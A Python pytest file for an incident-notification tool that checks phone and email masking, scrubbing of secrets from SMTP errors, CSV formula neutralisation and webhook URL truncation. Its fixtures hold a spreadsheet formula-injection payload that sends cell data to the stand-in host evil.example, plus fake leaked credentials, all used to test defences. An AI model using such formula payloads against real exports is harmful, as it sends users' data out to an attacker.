"""Personal data stays masked and secrets never leave: phone masks, contacts typed into free
text, the failed-deliveries list and its export, provider errors that echo credentials."""

from __future__ import annotations

import csv
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import create_engine, text

from cli_fixtures import Workspace
from counting_smtp import _LocalController
from incident.privacy import (
    mask_contact,
    mask_phone,
    remember_secret,
    scrub,
    scrub_secrets,
    spreadsheet_cell,
)
from incident.settings import secret

WIDE = {"COLUMNS": "400"}  # tables on one line each: a leak is never split by wrapping

# ------------------------------------------------------------------------------ phone masks


@pytest.mark.parametrize(("number", "masked"), [
    ("+85291230004", "+852 91****04"),   # Hong Kong, 8 national digits
    ("+6591230004", "+65 91****04"),     # Singapore, 8
    ("+33612345678", "+33 61*****78"),   # France, 9
    ("+12025550143", "+1 20*****143"),   # US, 10
    ("+442079460958", "+44 20*****958"),  # UK, 10
    ("+8613812348000", "+86 13******000"),  # China mobile, 11
    ("13812348000", "13******000"),      # no country code
])
def test_phone_masks_keep_the_country_code_and_at_most_half(number: str, masked: str) -> None:
    assert mask_phone(number) == masked


@pytest.mark.parametrize("length", range(1, 16))
def test_phone_masks_hide_at_least_half_of_any_length(length: int) -> None:
    digits = "".join(str((n * 7 + 3) % 10) for n in range(length))
    shown = mask_phone(digits)
    visible = sum(ch.isdigit() for ch in shown)
    assert visible <= length // 2, shown
    assert len(shown) == length


# ------------------------------------------------------------------------------ free text

PHONE, PHONE_E164, OTHER, EMAIL = "13800138000", "+8613800138000", "13900139000", \
    "li.na@example.com"
LEAKS = [PHONE, OTHER, EMAIL, "138 0013 8000"]


def _leaks(output: str) -> list[str]:
    return [value for value in LEAKS if value in output]


def test_contacts_typed_in_free_text_are_masked_everywhere_they_are_shown(
        ws: Workspace) -> None:
    started = ws.json("start", "core-banking-outage", "--title", "Core banking unavailable",
                      "--eta", "2h", "--queue-only")
    iid = started["id"]
    ws.run("manual", "log", iid, "--customer", "C0042",
           "--request", f"call {PHONE_E164} or {EMAIL}, else {OTHER}")
    ws.run("update", iid, "--message", "Customer on 138 0013 8000 escalated", "--internal")
    ws.run("step", iid, "nfra-first-report", "--done", "--note", f"Called back {PHONE}")

    shown = {
        "timeline": ws.run("timeline", iid, env=WIDE).stdout,
        "timeline --json": ws.run("--json", "timeline", iid).stdout,
        "manual list": ws.run("manual", "list", iid, env=WIDE).stdout,
        "manual list --json": ws.run("--json", "manual", "list", iid).stdout,
        "regulator --draft": ws.run("regulator", iid, "--draft", "--lang", "en",
                                    env=WIDE).stdout,
        "regulator --draft --json": ws.run("--json", "regulator", iid, "--draft",
                                           "--lang", "zh-CN").stdout,
    }
    assert {where: _leaks(out) for where, out in shown.items() if _leaks(out)} == {}
    # Masked, not dropped: the staff still see that a number was given, and which.
    assert "+86 13******000" in shown["manual list --json"]
    assert "l***@example.com" in shown["timeline --json"]
    assert "escalated" in shown["timeline"]
    # The record itself is untouched: verify still passes and the event holds the text.
    assert ws.json("verify", iid)["broken"] == {}


@pytest.mark.parametrize(("written", "expected"), [
    ("ring 13800138000 now", "ring 13******000 now"),
    ("see INC-20261124-3F2A7C", "see INC-20261124-3F2A7C"),  # an incident id is not a phone
    ("hash ab12345678cd", "hash ab12345678cd"),
    ("at 2026-11-24T11:40:00+08:00", "at 2026-11-24T11:40:00+08:00"),
    ("电话13800138000", "电话13******000"),
    # Hong Kong / Singapore local numbers as written there, without +852 / +65.
    ("call 9100 0004 now", "call 91****04 now"), ("或 6123-4567。", "或 61****67。"),
    ("amount 5000 at 14:30 on 2026-11-24", "amount 5000 at 14:30 on 2026-11-24"),
    ("version 1.2345 6789", "version 1.2345 6789"),
])
def test_scrub_masks_phones_but_not_ids_times_or_hashes(written: str, expected: str) -> None:
    assert scrub(written) == expected


def test_an_invalid_phone_is_masked_in_the_warning(sqlite_ws: Workspace) -> None:
    ws = sqlite_ws
    ws.write_customers(["C1,张伟,zhang.wei@example.com,+86 1380013800099,zh-CN,retail,,,,normal",
                        "C2,Mary Chan,mary@example.org,+85291234567,en,private,,,,normal"])
    result = ws.run("start", "core-banking-outage", "--title", "Core down", "--dry-run")
    assert "invalid phone" in result.stderr
    assert "1380013800099" not in result.stdout + result.stderr


# ------------------------------------------------------------------------------ failures

# A relay that refuses some recipients and echoes what a misconfigured gateway would.
ECHOED = ("Authorization: Basic dXNlcjpodW50ZXIy; via https://relay:hunter2@gw.example.net/x "
          "password=hunter2 token sk_live_51Habc")
REFUSED = {"eve@example.com", "formula@example.com"}


class Refusing:
    """aiosmtpd handler: 550 at RCPT TO for REFUSED, with the secrets of ECHOED in the text."""

    async def handle_RCPT(self, server: Any, session: Any, envelope: Any, address: str,
                          rcpt_options: list[str]) -> str:
        if address in REFUSED:
            return f"550 5.7.1 <{address}> refused by upstream ({ECHOED})"
        envelope.rcpt_tos.append(address)
        return "250 2.1.5 Ok"

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:
        return "250 2.0.0 Ok: queued"


@pytest.fixture
def refusing_smtp() -> Iterator[int]:
    controller = _LocalController(Refusing(), hostname="127.0.0.1", port=0)
    controller.start()
    try:
        yield controller.port
    finally:
        controller.stop()


def _failed_incident(ws: Workspace, port: int) -> str:
    ws.write_customers([
        'C1,"=HYPERLINK(""http://evil.example/?""&A1)",eve@example.com,,en,retail,,,,normal',
        "C2,@SUM(1+1),formula@example.com,,en,retail,,,,normal",
        "C3,Mary Chan,mary@example.org,,en,private,,,,normal",
    ])
    ws.use_smtp(port)
    started = ws.json("start", "core-banking-outage", "--title", "Core down", "--eta", "2h",
                      code=3)
    assert started["deliveries"]["failed"] == 2
    return str(started["id"])


def _stored_errors(ws: Workspace) -> list[str]:
    engine = create_engine(ws.db.replace("postgresql://", "postgresql+psycopg://"))
    with engine.connect() as conn:
        errors = [r[0] for r in conn.execute(text(
            "SELECT last_error FROM outbox WHERE last_error IS NOT NULL"))]
    engine.dispose()
    return errors


SECRETS = ["dXNlcjpodW50ZXIy", "hunter2", "sk_live_51Habc"]


def test_provider_errors_are_stored_and_shown_without_secrets(ws: Workspace,
                                                              refusing_smtp: int) -> None:
    iid = _failed_incident(ws, refusing_smtp)
    stored = _stored_errors(ws)
    assert len(stored) == 2 and all("refused by upstream" in e for e in stored)
    shown = "\n".join([*stored, ws.run("--json", "failed", iid).stdout,
                       ws.run("--json", "status", iid).stdout,
                       ws.run("failed", iid, env=WIDE).stdout])
    assert [s for s in SECRETS if s in shown] == []
    assert "Authorization: ***" in stored[0]
    assert "eve@example.com" not in shown, "a relay's echo of the address is masked too"


def test_with_contacts_goes_to_the_export_only_and_cells_cannot_be_formulas(
        ws: Workspace, refusing_smtp: int, tmp_path: Path) -> None:
    iid = _failed_incident(ws, refusing_smtp)
    ws.run("failed", iid, "--with-contacts", code=2)  # nothing to put them in: refused

    export = tmp_path / "failed.csv"
    result = ws.run("failed", iid, "--export", str(export), "--with-contacts", env=WIDE)
    assert [a for a in REFUSED if a in result.stdout + result.stderr] == []
    assert "keep it confidential" in result.stderr

    raw = export.read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(raw.splitlines()))
    assert {r["to"] for r in rows} == REFUSED  # the export has the full contacts
    names = {r["customer"]: r["name"] for r in rows}
    assert names["C1"].startswith("'=HYPERLINK(")
    assert names["C2"] == "'@SUM(1+1)"
    # Every field quoted; no cell a spreadsheet would evaluate.
    for line in raw.splitlines():
        assert re.fullmatch(r'"[^"]*(?:""[^"]*)*"(,"[^"]*(?:""[^"]*)*")*', line), line
    cells = [cell for r in rows for cell in r.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+8613800138000", "'+8613800138000"), ("-2", "'-2"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("Mary", "Mary"),
    (3, "3"), (None, ""),
])
def test_spreadsheet_cells_are_neutralised(value: object, cell: str) -> None:
    assert spreadsheet_cell(value) == cell


@pytest.mark.parametrize(("error", "hidden", "kept"), [
    ("HTTP 401 Authorization: Bearer eyJhbGciOi.J9x", "eyJhbGciOi.J9x", "HTTP 401"),
    ('{"authorization": "Basic QUM6dG9rZW4="}', "QUM6dG9rZW4=", "authorization"),
    ("GET https://AC1:s3cr3t@api.example.com/x failed", "s3cr3t", "api.example.com/x"),
    ("login failed: password=Pa55w0rd!", "Pa55w0rd!", "login failed"),
    ("/Accounts/AC0123456789abcdef0123456789abcdef/Messages", "0123456789abcdef0123456789abcdef",
     "/Messages"),
])
def test_secret_patterns_are_scrubbed(error: str, hidden: str, kept: str) -> None:
    scrubbed = scrub_secrets(error)
    assert hidden not in scrubbed and kept in scrubbed, scrubbed


def test_secrets_read_from_the_environment_are_scrubbed_wherever_they_appear() -> None:
    token = "f0e1d2c3b4a5-test-token-value"
    assert secret("TWILIO_AUTH_TOKEN", {"TWILIO_AUTH_TOKEN": token}) == token
    assert scrub_secrets(f"the gateway said: bad key {token}!") == "the gateway said: bad key ***!"
    remember_secret("ab")  # too short to scrub without blanking ordinary words
    assert scrub_secrets("a table") == "a table"


@pytest.mark.parametrize(("url", "shown"), [
    ("https://hooks.slack.com/services/T000/B000/XXXXSECRET", "https://hooks.slack.com/…"),
    ("https://qyapi.weixin.qq.com/cgi-bin/webhook/send?key=693a91f6-7xxx",
     "https://qyapi.weixin.qq.com/…"),
    ("http://127.0.0.1:8080/hook?access_token=abc", "http://127.0.0.1:8080/…"),
])
def test_a_webhook_url_shows_only_its_host(url: str, shown: str) -> None:
    # A chat webhook's path or query is its token: shown as a contact, only the host remains.
    assert mask_contact(url) == shown
